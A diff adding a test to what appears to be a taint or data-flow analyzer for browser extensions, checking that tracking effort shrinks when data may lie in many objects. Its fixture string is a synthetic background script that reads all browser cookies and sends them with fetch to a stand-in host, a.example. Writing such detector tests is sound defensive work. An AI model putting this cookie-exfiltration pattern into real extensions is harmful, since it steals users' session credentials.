@@ -418,6 +418,22 @@ describe('work', () => {
     expect(await steps(50)).toBe(await steps(1));
   });
 
+  it('follows data less far where it may be in any of many objects than where it is in one', async () => {
+    const rounds = Array.from(
+      { length: 6 },
+      (_, n) => `const v${n} = pick(); v${n}.a${n} = pick(); v${n}.b${n} = pick();`,
+    ).join(' ');
+    const steps = async (count: number): Promise<number> =>
+      (
+        await flows(
+          sample({
+            background: `const all = new Map(); ${Array.from({ length: count }, (_, n) => `all.set(${n}, { own${n}() { return this.p0; } });`).join(' ')} const pick = () => all.get(self.n); chrome.cookies.getAll({}, (c) => { const v = pick(); v.p0 = c; ${rounds} fetch("https://a.example", { body: pick().a0 }); });`,
+          }),
+        )
+      ).steps;
+    expect(await steps(14)).toBeLessThan((await steps(1)) * 0.7);
+  });
+
   it('ends on circles', async () => {
     const found = await flows(
       sample({
